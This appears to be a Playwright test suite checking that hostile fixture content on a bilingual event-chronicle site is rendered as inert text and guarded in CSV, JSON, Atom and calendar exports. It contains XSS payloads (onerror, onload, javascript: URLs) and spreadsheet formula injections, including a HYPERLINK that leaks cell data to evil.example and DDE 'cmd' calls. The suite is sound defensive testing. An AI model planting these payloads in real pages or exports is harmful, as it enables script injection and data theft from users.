/**
 * The site built from hostile content (`tests/fixtures/hostile/events`, served by the `hostile` project of
 * playwright.config.ts): markup, script URLs, template syntax, formula-looking text and very long
 * strings must stay inert text on every page, in the timeline, in the preview cards and the exports.
 * The payloads set `window.__pwned` or call `alert`; CSP would block inline handlers anyway, so each
 * page is also checked structurally for anything a payload could have added to the DOM.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import ICAL from 'ical.js';
import type { APIRequestContext, Page } from '@playwright/test';
import { groupByYear } from '../../src/lib/chronology';
import { comparePartialDates } from '../../src/lib/content/dates';
import { PAIRS } from '../../src/lib/content/schema';
import { validateContent } from '../../src/lib/content/validate';
import { formatDate } from '../../src/lib/format';
import { readContentFiles } from '../../src/lib/server/files';
import { expect, path, test, timelineReady } from './fixtures';

const LANGS = ['ja', 'en'] as const;
const hostile = validateContent(readContentFiles('tests/fixtures/hostile/events'));
const byDate = (a: { date: string; id: string }, b: { date: string; id: string }) =>
	comparePartialDates(a.date, b.date) || a.id.localeCompare(b.id);
const events = hostile.events.filter((e) => !e.draft).sort(byDate);
const commentary = hostile.commentary;
const dayPrecise = events.filter((e) => /^\d{4}-\d{2}-\d{2}$/.test(e.date));
const event = (id: string) => events.find((e) => e.id === id)!;
const signings = events.flatMap((e) => e.treaty).filter((s) => s.action === 'signed');
const TREATY = '2024-06-19-hostile-treaty-signed';
const FORMULAS = '2024-04-hostile-cn-ru';
const SPECIALS = '2024-05-10-hostile-context';
const LONG = '2024-05-11-hostile-long-strings';
/** What a spreadsheet-bound CSV cell holds: formula-looking text behind an apostrophe. */
const guarded = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
/** Whitespace as a browser's text matching sees it (summaries may hold line breaks). */
const squash = (text: string) => text.replace(/\s+/g, ' ').trim();
const ATOM_ENTRY = ['id', 'title', 'updated', 'published', 'author', 'link', 'category', 'summary'];

test.beforeAll(() => {
	// The fixture set must pass validation, or the build under test is not the hostile one.
	expect(hostile.issues).toEqual([]);
	expect(events.map((e) => e.id)).toEqual(expect.arrayContaining([TREATY, FORMULAS, SPECIALS]));
	for (const pair of PAIRS)
		expect(
			events.some((e) => e.pairs.includes(pair)),
			pair
		).toBe(true);
	expect(events.some((e) => e.pairs.length === 0)).toBe(true);
	expect(commentary.length).toBeGreaterThan(0);
});

/** Dialogs opened during the test: `alert(1)` from a payload that ran. */
let dialogs: string[] = [];

test.beforeEach(async ({ page }) => {
	dialogs = [];
	page.on('dialog', async (dialog) => {
		dialogs.push(`${dialog.type()}: ${dialog.message()}`);
		await dialog.dismiss();
	});
});

test.afterEach(() => {
	expect(dialogs, 'dialogs opened by content').toEqual([]);
});

/** Nothing a payload could have added: handlers, scripts, frames, script URLs, stray images. */
async function expectInert(page: Page) {
	expect(dialogs, 'dialogs opened by content').toEqual([]);
	const found = await page.evaluate(() => {
		const problems: string[] = [];
		const w = window as unknown as { __pwned?: unknown };
		if (w.__pwned !== undefined) problems.push(`window.__pwned = ${String(w.__pwned)}`);
		const dangerous = /^\s*(javascript|data|vbscript):/i;
		for (const el of document.querySelectorAll('*')) {
			for (const attr of el.attributes) {
				if (/^on/i.test(attr.name)) problems.push(`<${el.localName} ${attr.name}>`);
				if (
					['href', 'src', 'action', 'formaction', 'xlink:href', 'srcdoc', 'poster'].includes(
						attr.name
					) &&
					dangerous.test(attr.value)
				)
					problems.push(`<${el.localName} ${attr.name}="${attr.value}">`);
			}
		}
		// The app's own embed preview (EmbedCode) frames the site's embed page, nothing else.
		const preview = '.embed-code iframe[data-testid="embed-preview"]';
		for (const frame of document.querySelectorAll<HTMLIFrameElement>(preview)) {
			const src = new URL(frame.src);
			if (src.origin !== location.origin || !/\/(ja|en)\/embed\/$/.test(src.pathname))
				problems.push(`an embed preview of ${frame.src}`);
		}
		for (const el of document.querySelectorAll(
			`iframe:not(${preview}), frame, object, embed, base, body style, math, body meta, ` +
				// The app's own inline SVGs are decorative, with a viewBox; a payload's has neither.
				'svg:not([viewBox][aria-hidden="true"]), meta[http-equiv]:not([http-equiv="content-security-policy"])'
		)) {
			problems.push(`an element from content: <${el.localName}>`);
		}
		for (const img of document.images) {
			if (new URL(img.src).origin !== location.origin) problems.push(`<img src="${img.src}">`);
		}
		for (const script of document.scripts) {
			const own =
				script.type === 'application/ld+json' ||
				(script.src && new URL(script.src).pathname.includes('/_app/')) ||
				(!script.src && script.textContent!.includes('__sveltekit_'));
			if (!own) problems.push(`a script: ${script.outerHTML.slice(0, 120)}`);
		}
		for (const ld of document.querySelectorAll('script[type="application/ld+json"]')) {
			try {
				JSON.parse(ld.textContent!);
			} catch {
				problems.push('JSON-LD that does not parse');
			}
		}
		if (document.documentElement.scrollWidth > innerWidth + 1)
			problems.push(`the page scrolls sideways (${document.documentElement.scrollWidth}px)`);
		return problems;
	});
	expect(found, 'signs of live content').toEqual([]);
}

/** Loads a page, checks it is inert, and returns its response. */
async function visit(page: Page, p: string) {
	const response = await page.goto(path(p));
	expect(response?.status(), p).toBe(200);
	await expectInert(page);
	return response;
}

async function fetchFile(request: APIRequestContext, p: string, type: RegExp) {
	const response = await request.get(path(p));
	expect(response.status(), p).toBe(200);
	expect(response.headers()['content-type']).toMatch(type);
	return response;
}

for (const lang of LANGS) {
	test.describe(`hostile content is shown as text (${lang})`, () => {
		test('chronicle: list, source tooltips, treaty bands', async ({ page }) => {
			await visit(page, `/${lang}/`);
			for (const e of events) {
				const entry = page.locator(`li.entry[data-id="${e.id}"]`);
				await expect(entry).toContainText(e.title[lang]);
				await expect(entry).toContainText(squash(e.summary[lang]));
				// A source's tooltip is its title, as an attribute value, not markup.
				const links = entry.locator('.sources a');
				for (const [i, source] of e.sources.entries()) {
					await expect(links.nth(i)).toHaveText(source.publisher);
					await expect(links.nth(i)).toHaveAttribute(
						'title',
						`${source.title} (${formatDate(source.date, lang)})`
					);
				}
			}
			await timelineReady(page);
			await expectInert(page);
			// Treaty bands are labelled with the treaty's short name.
			const bands = await page.locator('.band-link').allTextContents();
			for (const id of ['kp-ru-1961', 'kp-ru-2024']) {
				const step = signings.find((s) => s.id === id)!;
				expect(bands.some((b) => b.startsWith(step.short[lang]))).toBe(true);
			}
			// On the timeline, each treaty's band is drawn by the item template, as text (in whatever
			// order the widget puts background items).
			const drawn = page.locator('.vis-item.vis-background .tl-band');
			const shorts = signings.map((s) => s.short[lang]);
			await expect(drawn).toHaveCount(shorts.length);
			expect((await drawn.allTextContents()).sort()).toEqual(shorts.sort());
			expect(await drawn.locator('*').count()).toBe(0);
			// Its only tooltips are the lanes' names, which are ours.
			const titles = await page
				.locator('.vis-timeline [title]')
				.evaluateAll((els) => els.map((el) => el.getAttribute('title')));
			expect(titles).toHaveLength(4);
			for (const title of titles) expect(title).not.toMatch(/[<>"{$]/);
		});

		test('timeline: item templates, tooltips and the detail panel', async ({ page }) => {
			// Seven page loads, each mounting the timeline.
			test.slow();
			// Each event opened from the URL: its item is drawn with the title as text.
			for (const e of events) {
				await page.goto(path(`/${lang}/?event=${e.id}`));
				await timelineReady(page);
				await expect(page.getByTestId('detail-panel')).toContainText(e.title[lang]);
				const labels = page.locator('.vis-item.vis-selected .vis-item-content');
				await expect(labels.first()).toHaveText(e.title[lang]);
				// The template builds a span with textContent, and empty spans that draw uncertainty:
				// never child elements from content.
				const drawn = 'span.tl-event, span.tl-soft:empty, span.tl-earliest:empty';
				expect(await labels.first().locator(`*:not(${drawn})`).count()).toBe(0);
				await labels.first().hover();
				await page.locator('.vis-labelset .vis-label').first().hover();
				const tooltips = page.locator('.vis-tooltip');
				for (const tip of await tooltips.all())
					expect(await tip.locator('*').count(), 'markup in a tooltip').toBe(0);
				await expectInert(page);
			}

			// Clicking an item on the timeline opens it in the panel.
			await page.goto(path(`/${lang}/?event=${TREATY}`));
			await timelineReady(page);
			await page.locator('.vis-item.vis-selected').first().click();
			await expect(page.getByTestId('detail-panel')).toContainText(
				squash(event(TREATY).summary[lang])
			);
			await expectInert(page);
		});

		test('search: hostile queries are text, results highlighted as text', async ({ page }) => {
			await visit(page, `/${lang}/`);
			await timelineReady(page);
			const box = page.locator('#chronicle-search');
			const query = '<img src=x onerror=alert(1)>';
			await box.fill(query);
			await expect(page).toHaveURL(
				new RegExp(`\\?q=${encodeURIComponent(query).replace(/[()]/g, '\\$&')}`)
			);
			await expect(box).toHaveValue(query);
			await expect(page.locator(`li.entry[data-id="2024-03-01-hostile-cn-kp"]`)).toBeVisible();
			await expectInert(page);
			await box.fill('pwned');
			await expect(page.locator('li.entry:visible mark').first()).toHaveText(/^pwned$/i);
			await expect(page.locator(`li.entry[data-id="${TREATY}"]`)).toBeVisible();
			await expect(page.locator(`li.entry[data-id="${TREATY}"]`)).toContainText(
				event(TREATY).title[lang]
			);
			await expectInert(page);
			// A query in the address bar is read back as text too.
			await page.goto(path(`/${lang}/?q=${encodeURIComponent('"><svg onload=alert(1)>')}`));
			await timelineReady(page);
			await expect(box).toHaveValue('"><svg onload=alert(1)>');
			await expectInert(page);
		});

		test('every event page', async ({ page }) => {
			for (const e of events) {
				await visit(page, `/${lang}/events/${e.id}/`);
				await expect(page.getByRole('heading', { level: 1 })).toHaveText(e.title[lang]);
				await expect(page.locator('main')).toContainText(squash(e.summary[lang]));
				if (e.certainty) await expect(page.locator('main')).toContainText(e.certainty[lang]);
				for (const source of e.sources) {
					await expect(page.locator('main')).toContainText(source.title);
					await expect(page.locator('main')).toContainText(source.publisher);
				}
				expect(await page.title()).toContain(e.title[lang]);
				await expect(page.locator('meta[property="og:title"]')).toHaveAttribute(
					'content',
					e.title[lang]
				);
				const ld = JSON.parse(
					(await page.locator('script[type="application/ld+json"]').textContent())!
				);
				expect(ld.headline).toBe(e.title[lang]);
				const image = await page.locator('meta[property="og:image"]').getAttribute('content');
				expect(new URL(image!).pathname).toBe(path(`/og/${lang}/${e.id}.png`));
			}
			// Raw HTML in the body stays visible as text; only web and internal links are links.
			await visit(page, `/${lang}/events/2024-03-01-hostile-cn-kp/`);
			const body = page.locator('.body');
			await expect(body).toContainText('<div onclick="window.__pwned=1">');
			await expect(body).toContainText('<iframe src="javascript:window.__pwned=1"></iframe>');
			await expect(body.locator('code').last()).toHaveText('<img src=x onerror=alert(1)>');
			const hrefs = await body
				.locator('a')
				.evaluateAll((links) => links.map((a) => a.getAttribute('href')));
			// A Markdown image becomes a link to it, never an <img>.
			const image = 'https://example.com/pixel.png';
			const web = lang === 'en' ? [image, 'https://example.com/ok'] : [image];
			expect(hrefs).toEqual([...web, path(`/${lang}/events/${TREATY}/`)]);
			await expect(body.locator(`a[href="${image}"]`)).toHaveText(
				lang === 'en' ? 'remote image' : '遠隔の画像'
			);
			expect(await body.locator('img').count()).toBe(0);
			if (lang === 'en')
				await expect(body.locator('a[href="https://example.com/ok"]')).toHaveAttribute(
					'title',
					'"><svg onload=window.__pwned=1>'
				);
		});

		test('commentary pages', async ({ page }) => {
			await visit(page, `/${lang}/commentary/`);
			await expect(page.locator('ol.list > li')).toHaveCount(commentary.length);
			for (const entry of commentary) {
				await expect(page.locator('main')).toContainText(entry.title[lang]);
				await expect(page.locator('main')).toContainText(entry.author[lang]);
			}
			for (const entry of commentary) {
				await visit(page, `/${lang}/commentary/${entry.id}/`);
				const main = page.locator('main');
				await expect(page.getByRole('heading', { level: 1 })).toHaveText(entry.title[lang]);
				for (const text of [entry.author[lang], entry.outlet[lang], entry.summary[lang]])
					await expect(main).toContainText(text);
				for (const quote of entry.quotes) {
					await expect(main).toContainText(quote.text);
					await expect(main).toContainText(quote.translation[lang]);
				}
				await expect(main.locator('.summary')).toContainText('<script>window.__pwned=1</script>');
				expect(
					await main
						.locator('.summary a')
						.evaluateAll((links) => links.map((a) => a.getAttribute('href')))
				).toEqual([path(`/${lang}/events/${TREATY}/`)]);
				// The events it discusses, listed by their titles.
				for (const id of entry.events)
					await expect(main.locator('ul.events')).toContainText(event(id).title[lang]);
			}
			// An event page lists the commentary on it.
			await visit(page, `/${lang}/events/${TREATY}/`);
			await expect(page.locator('main')).toContainText(commentary[0].title[lang]);
		});

		test('pair pages, year pages and the treaties page', async ({ page, request }) => {
			for (const pair of PAIRS) {
				await visit(page, `/${lang}/pairs/${pair}/`);
				for (const e of events.filter((e) => e.pairs.includes(pair)))
					await expect(page.locator(`li.entry[data-id="${e.id}"]`)).toContainText(e.title[lang]);
			}
			for (const { year, items } of groupByYear(events)) {
				await visit(page, `/${lang}/years/${year}/`);
				for (const e of items)
					await expect(page.locator(`li.entry[data-id="${e.id}"]`)).toContainText(e.title[lang]);
			}
			// The brief list a long chronicle loads carries the titles as data, unchanged.
			const catalogue = await (await fetchFile(request, `/${lang}/catalogue.json`, /json/)).json();
			expect(catalogue.map((e: { title: string }) => e.title)).toEqual(
				events.map((e) => e.title[lang])
			);
			await visit(page, `/${lang}/treaties/`);
			const main = page.locator('main');
			for (const step of events.flatMap((e) => e.treaty).filter((s) => s.action === 'signed')) {
				for (const text of [step.name!, step.place!, step.term!])
					await expect(main).toContainText(text[lang]);
				for (const clause of step.clauses!) {
					await expect(main).toContainText(clause.text[lang]);
					if (clause.conditions) await expect(main).toContainText(clause.conditions[lang]);
				}
			}
			// The comparison picker's options carry the names as text.
			const options = await page.getByTestId('pick-a').locator('option').allTextContents();
			expect(options.some((o) => o.startsWith('<img src=x onerror="window.__pwned=1">'))).toBe(
				true
			);
			await page.locator('.strips [title]').first().hover();
			await expectInert(page);
		});
	});
}

test.describe('hostile content in the exports', () => {
	test('/events.json holds the strings exactly', async ({ request }) => {
		const data = await (await fetchFile(request, '/events.json', /^application\/json/)).json();
		expect(data.events.map((e: { id: string }) => e.id)).toEqual(events.map((e) => e.id));
		for (const [i, e] of events.entries()) {
			expect(data.events[i]).toMatchObject({
				title: e.title,
				summary: e.summary,
				certainty: e.certainty ?? null,
				sources: e.sources
			});
		}
		// JSON has no formula guard: the apostrophe is for spreadsheets only.
		expect(data.events.find((e: { id: string }) => e.id === FORMULAS).title.en).toBe(
			event(FORMULAS).title.en
		);
		for (const entry of commentary) {
			expect(data.commentary.find((c: { id: string }) => c.id === entry.id)).toMatchObject({
				author: entry.author,
				outlet: entry.outlet,
				title: entry.title,
				summary: entry.summary,
				url: entry.url
			});
		}
	});

	for (const file of ['/events.csv', ...PAIRS.map((p) => `/pairs/${p}/events.csv`)]) {
		test(`${file} round-trips text and guards formulas`, async ({ request }) => {
			const pair = /pairs\/([^/]+)\//.exec(file)?.[1];
			const expected = events.filter((e) => !pair || e.pairs.includes(pair as never));
			const response = await fetchFile(request, file, /^text\/csv; charset=utf-8/);
			const rows: Record<string, string>[] = parseCsv(await response.body(), {
				bom: true,
				columns: true
			});
			expect(rows.map((r) => r.id)).toEqual(expected.map((e) => e.id));
			for (const [i, e] of expected.entries()) {
				expect(rows[i]).toMatchObject({
					title_ja: guarded(e.title.ja),
					title_en: guarded(e.title.en),
					summary_ja: guarded(e.summary.ja),
					summary_en: guarded(e.summary.en),
					certainty_ja: guarded(e.certainty?.ja ?? ''),
					certainty_en: guarded(e.certainty?.en ?? '')
				});
			}
			for (const row of rows)
				for (const [column, cell] of Object.entries(row))
					expect(cell, `${row.id} ${column}`).not.toMatch(/^[=+\-@\t\r]/);
			if (!pair || pair === 'cn-ru') {
				const row = rows.find((r) => r.id === FORMULAS)!;
				expect(row.title_en).toBe(`'=HYPERLINK("https://evil.example/?leak="&A1,"click me")`);
				expect(row.title_ja).toBe(`'+cmd|' /C calc'!A0 会談`);
				expect(row.summary_en).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0 summary.`);
				expect(row.summary_ja).toBe(`'-2+3+cmd|' /C calc'!A0 要約。`);
			}
		});
	}

	for (const file of PAIRS.map((p) => `/pairs/${p}/events.json`)) {
		test(`${file} holds the strings exactly`, async ({ request }) => {
			const data = await (await fetchFile(request, file, /^application\/json/)).json();
			for (const out of data.events) {
				const e = event(out.id);
				expect(out).toMatchObject({ title: e.title, summary: e.summary, sources: e.sources });
			}
			for (const treaty of data.treaties) {
				const step = signings.find((s) => s.id === treaty.id)!;
				expect(JSON.stringify(treaty)).toContain(JSON.stringify(step.name.en).slice(1, -1));
			}
		});
	}

	for (const lang of LANGS) {
		test(`/${lang}/feed.xml is well-formed and holds the strings exactly`, async ({ request }) => {
			const text = await (
				await fetchFile(request, `/${lang}/feed.xml`, /^application\/atom\+xml/)
			).text();
			expect(XMLValidator.validate(text)).toBe(true);
			const parser = new XMLParser({
				ignoreAttributes: false,
				attributeNamePrefix: '@',
				processEntities: true,
				htmlEntities: false,
				trimValues: false,
				isArray: (name) => ['entry', 'link', 'category'].includes(name)
			});
			const feed = parser.parse(text).feed;
			expect(feed.entry).toHaveLength(events.length + commentary.length);
			const titles = new Map<string, string>([
				...events.map((e) => [`/${lang}/events/${e.id}/`, e.title[lang]] as const),
				...commentary.map((c) => [`/${lang}/commentary/${c.id}/`, c.title[lang]] as const)
			]);
			const summaries = new Map<string, string>([
				...events.map((e) => [`/${lang}/events/${e.id}/`, e.summary[lang]] as const),
				...commentary.map((c) => [`/${lang}/commentary/${c.id}/`, c.summary[lang]] as const)
			]);
			for (const entry of feed.entry) {
				const p = new URL(entry.id).pathname;
				const title = typeof entry.title === 'string' ? entry.title : entry.title['#text'];
				expect(title, p).toBe(titles.get(p));
				const summary =
					typeof entry.summary === 'string' ? entry.summary : entry.summary?.['#text'];
				if (summary !== undefined) expect(summary, p).toBe(summaries.get(p));
				// Only Atom's own elements: none came from content.
				expect(Object.keys(entry).filter((key) => !ATOM_ENTRY.includes(key))).toEqual([]);
				const e = events.find((e) => p.endsWith(`/events/${e.id}/`));
				const related = entry.link
					.filter((l: Record<string, string>) => l['@rel'] === 'related')
					.map((l: Record<string, string>) => l['@title']);
				for (const source of e?.sources ?? [])
					expect(related.some((t: string) => t.includes(source.title))).toBe(true);
			}
		});
	}

	test('/events.ics parses and holds the strings exactly', async ({ request }) => {
		const text = await (await fetchFile(request, '/events.ics', /^text\/calendar/)).text();
		expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
		for (const line of text.split('\r\n')) expect(Buffer.byteLength(line)).toBeLessThanOrEqual(75);
		const calendar = new ICAL.Component(ICAL.parse(text));
		const vevents = calendar.getAllSubcomponents('vevent');
		expect(vevents.map((v) => v.getFirstPropertyValue('uid'))).toEqual(
			dayPrecise.map((e) => `${e.id}@triangle-chronicle`)
		);
		for (const [i, e] of dayPrecise.entries()) {
			expect(vevents[i].getFirstPropertyValue('summary')).toBe(`${e.title.ja} / ${e.title.en}`);
			const description = String(vevents[i].getFirstPropertyValue('description'));
			expect(description).toContain(e.summary.ja);
			expect(description).toContain(e.summary.en);
		}
		// The context event's semicolons, commas, backslash and line break survive escaping.
		const specials = vevents[dayPrecise.findIndex((e) => e.id === SPECIALS)];
		expect(String(specials.getFirstPropertyValue('description'))).toContain(
			'Line one; with, commas \\ and a backslash\nLine two ]]> &amp; <script>'
		);
	});
});

test.describe('hostile content in the preview cards', () => {
	test('every card is a 1200×630 PNG', async ({ request }) => {
		const cards = new Set<string>();
		for (const lang of LANGS) {
			for (const e of [...events.map((e) => e.id), 'site']) {
				const response = await fetchFile(request, `/og/${lang}/${e}.png`, /^image\/png$/);
				const png = await response.body();
				expect([...png.subarray(0, 8)]).toEqual([137, 80, 78, 71, 13, 10, 26, 10]);
				expect(png.subarray(12, 16).toString('latin1')).toBe('IHDR');
				expect([png.readUInt32BE(16), png.readUInt32BE(20)]).toEqual([1200, 630]);
				cards.add(png.toString('base64'));
			}
		}
		// Every card is its own: no hostile title made the text vanish into a shared blank.
		expect(cards.size).toBe(2 * (events.length + 1));
	});

	test('a card draws the hostile title literally', async ({ request }) => {
		test.slow();
		const { eventCard } = await import('../../src/lib/og/template');
		const { renderCard } = await import('../../src/lib/server/og');
		const e = event(TREATY);
		const built = await (await fetchFile(request, `/og/en/${e.id}.png`, /^image\/png$/)).body();
		const card = (title: string) =>
			renderCard(eventCard({ lang: 'en', title, date: e.date, end: e.end, pairs: e.pairs }));
		// The same renderer gives the same pixels for the literal title, and others without the markup.
		expect(Buffer.from(await card(e.title.en)).equals(built)).toBe(true);
		const stripped = e.title.en.replace(/<[^>]*>/g, '');
		expect(Buffer.from(await card(stripped)).equals(built)).toBe(false);
	});
});

test('a very long title and unbroken words do not break the layout', async ({ page }) => {
	for (const width of [360, 390, 1280]) {
		await page.setViewportSize({ width, height: 800 });
		for (const lang of LANGS) {
			for (const p of [`/${lang}/events/${LONG}/`, `/${lang}/`]) {
				await visit(page, p);
				const title =
					p === `/${lang}/` ? page.locator(`#t-${LONG}`) : page.getByRole('heading', { level: 1 });
				await expect(title).toHaveText(event(LONG).title[lang]);
				const layout = await title.evaluate((el) => {
					const box = el.getBoundingClientRect();
					const root = document.documentElement;
					return {
						overflow: root.scrollWidth - root.clientWidth,
						left: box.left >= 0,
						right: box.right <= root.clientWidth
					};
				});
				expect(layout, `${p} at ${width} px`).toEqual({ overflow: 0, left: true, right: true });
			}
		}
	}
});
